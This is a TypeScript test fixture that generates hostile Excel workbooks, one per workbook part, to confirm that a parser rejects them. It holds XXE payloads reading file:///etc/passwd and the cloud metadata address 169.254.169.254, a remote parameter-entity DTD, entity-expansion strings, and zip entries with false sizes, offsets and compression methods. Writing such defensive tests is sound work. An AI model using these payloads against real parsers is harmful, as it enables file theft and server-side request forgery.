import type { WorkbookErrorCode } from '../src/model/workbook-error';
import type { HostileWorkbook } from './hostile-workbook';
import { workbookBytes, workbookEntries } from './workbook-bytes';
import type { ZipEntryRecipe } from './zip-bytes';

/** The parts of a workbook, and when they are read. */
const PARTS: readonly (readonly [name: string, at: HostileWorkbook['at']])[] = [
  ['_rels/.rels', 'inspection'],
  ['xl/workbook.xml', 'inspection'],
  ['xl/_rels/workbook.xml.rels', 'inspection'],
  ['xl/styles.xml', 'rows'],
  ['xl/worksheets/sheet1.xml', 'rows'],
  ['xl/sharedStrings.xml', 'rows'],
];

const HOLDS_TEXTS = new Set(['xl/worksheets/sheet1.xml', 'xl/sharedStrings.xml']);

const recipe = { strings: '<si><t>a</t></si>', formats: ['yyyy'] };

/** The same attack on every part, because parts have different scanners. */
export function attacksByPart(): HostileWorkbook[] {
  return PARTS.flatMap(([part, at]) => {
    const attack = (name: string, code: WorkbookErrorCode, change: (text: string) => Partial<ZipEntryRecipe>) => ({
      name: `${part}: ${name}`,
      code,
      at,
      make: () => workbookBytes({ ...recipe, entries: [{ name: part, content: '', ...change(contentOf(part)) }] }),
    });
    const declared = (type: string) => (text: string) => ({ content: withDoctype(text, type) });
    return [
      attack('entities inside', 'entities_refused', declared('[<!ENTITY a "aaaaaaaaaa">]')),
      attack('entities of entities', 'entities_refused', declared('[<!ENTITY a "a"><!ENTITY b "&a;&a;&a;&a;&a;">]')),
      attack('an entity of a file', 'entities_refused', declared('[<!ENTITY a SYSTEM "file:///etc/passwd">]')),
      attack('an entity of the web', 'entities_refused', declared('[<!ENTITY a SYSTEM "http://169.254.169.254/">]')),
      attack('a parameter entity', 'entities_refused', declared('[<!ENTITY % a SYSTEM "http://x.example/a.dtd"> %a;]')),
      attack('a declaration elsewhere', 'entities_refused', declared('SYSTEM "http://x.example/a.dtd"')),
      attack('written in UTF-16', 'malformed_xml', (text) => ({ content: utf16(text) })),
      attack('written in UTF-16, big-endian', 'malformed_xml', (text) => ({ content: utf16(text).swap16() })),
      attack('zero bytes', 'malformed_xml', () => ({ content: Buffer.alloc(4_096) })),
      // The other parts are optional.
      ...(HOLDS_TEXTS.has(part) ? [attack('JSON', 'malformed_xml', () => ({ content: '{"a": 1}' }))] : []),
      attack('an invalid deflate stream', 'damaged', () => ({
        content: Buffer.alloc(300, 0xff),
        stored: true,
        method: 8,
      })),
      attack('a declared size of zero', 'suspicious_archive', (text) => ({ content: text, claims: { size: 0 } })),
      attack('a declared size that is too small', 'suspicious_archive', (text) => ({
        content: text,
        claims: { size: 20 },
      })),
    ];
  });
}

/** Wrong values for each entry, which are detected before bytes are inflated. */
export function liesByPart(): HostileWorkbook[] {
  return PARTS.flatMap(([part]) => {
    const lie = (name: string, code: WorkbookErrorCode, claimed: Partial<ZipEntryRecipe>) => ({
      name: `${part}: ${name}`,
      code,
      at: 'inspection' as const,
      make: () => workbookBytes({ ...recipe, entries: [{ name: part, content: contentOf(part), ...claimed }] }),
    });
    return [
      lie('encrypted', 'encrypted', { flags: 1 }),
      lie('an unknown compression method', 'suspicious_archive', { method: 99 }),
      lie('four gigabytes', 'suspicious_archive', { claims: { size: 0xffffffff } }),
      lie('longer than the file', 'suspicious_archive', { claims: { compressedSize: 10_000_000 } }),
      lie('beyond the file', 'suspicious_archive', { claims: { offset: 0x7fffffff } }),
    ];
  });
}

function contentOf(part: string): string {
  return String(workbookEntries(recipe).find(({ name }) => name === part)?.content);
}

function withDoctype(text: string, declaration: string): string {
  const [root = ''] = /<[A-Za-z]+/.exec(text) ?? [];
  return text.replace(root, `<!DOCTYPE x ${declaration}>${root}`);
}

function utf16(text: string): Buffer {
  return Buffer.from(`\ufeff${text.replace(/^<\?.*?\?>/, '')}`, 'utf16le');
}
